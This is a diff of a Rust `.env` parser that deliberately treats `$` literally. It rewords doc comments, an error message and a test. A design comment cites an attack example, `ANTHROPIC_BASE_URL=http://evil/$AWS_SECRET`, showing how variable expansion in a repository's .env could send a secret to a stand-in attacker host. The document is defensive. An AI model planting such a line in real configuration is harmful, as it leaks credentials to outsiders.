@@ -1,11 +1,12 @@
-//! The `.env` file. Pure.
+//! The parser of `.env`. Pure.
 //!
-//! Not dotenvy: that replaces `$NAME` by the value of the real environment's variable, in a file which
-//! comes with the repository (`ANTHROPIC_BASE_URL=http://evil/$AWS_SECRET`), and this can't be turned off.
+//! Not dotenvy: it always replaces `$NAME` by the variable of the environment, and the file comes with the repository
+//! (`ANTHROPIC_BASE_URL=http://evil/$AWS_SECRET`).
 
-/// The assignments to the variables in `names`, in order. Others are skipped, whatever they look like.
-/// `NAME=value`, `export NAME=value`, `'literal'`, `"with \n, \" and \\"`, `# comment`; a quoted value
-/// may go over several lines. `$` is an ordinary character. Fails when a wanted value is not finished.
+/// The assignments to the variables in `names`, in order; all others are skipped.
+///
+/// Reads `NAME=value`, `export NAME=value`, `'literal'`, `"with \n, \" and \\"` and `# comment`. A quoted value may have
+/// several lines. `$` is an ordinary character. Fails if a value of `names` has no closing quote.
 pub fn parse(text: &str, names: &[&str]) -> Result<Vec<(String, String)>, String> {
     let mut found = Vec::new();
     let mut rest = text.strip_prefix('\u{feff}').unwrap_or(text);
@@ -28,7 +29,7 @@ pub fn parse(text: &str, names: &[&str]) -> Result<Vec<(String, String)>, String
         let (value, used) = match read_value(&rest[start..]) {
             Some((value, used)) => (value, start + used),
             None if names.contains(&name) => {
-                return Err(format!("the value of `{name}` has a quote that is not closed"));
+                return Err(format!("the value of `{name}` has no closing quote"));
             }
             None => (String::new(), line.len()),
         };
@@ -40,7 +41,7 @@ pub fn parse(text: &str, names: &[&str]) -> Result<Vec<(String, String)>, String
     Ok(found)
 }
 
-/// The value at the start of `text`, and how many bytes it takes with the rest of its line.
+/// The value at the start of `text`, and how many bytes it and the rest of its line take. None if a quote is not closed.
 fn read_value(text: &str) -> Option<(String, usize)> {
     let mut value = String::new();
     let mut quote = None;
@@ -103,6 +104,6 @@ mod tests {
     #[test]
     fn an_open_quote_is_named() {
         let error = parse("A='open\n", &["A"]).unwrap_err();
-        assert_eq!(error, "the value of `A` has a quote that is not closed");
+        assert_eq!(error, "the value of `A` has no closing quote");
     }
 }
